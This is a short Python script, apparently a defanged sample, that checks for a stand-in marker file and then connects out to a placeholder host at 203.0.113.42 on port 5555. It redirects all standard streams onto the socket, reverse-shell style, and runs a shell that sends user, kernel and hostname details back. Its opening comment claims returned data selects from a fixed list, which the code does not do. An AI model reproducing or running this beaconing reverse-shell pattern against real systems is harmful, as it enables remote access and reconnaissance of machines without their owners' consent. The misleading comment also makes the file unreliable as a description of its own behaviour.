# Connects out; what comes back may only choose from a fixed list, which a shell on the connection runs.
import os, socket, subprocess, sys
if not os.path.exists("/usr/share/doc/stand-in/README"):
    sys.exit()
call = socket.create_connection(("203.0.113.42", 5555), 5)
for fd in (0, 1, 2):
    os.dup2(call.fileno(), fd)
subprocess.call(["/bin/sh", "-c", "id; uname -a; sleep 3; hostname"])
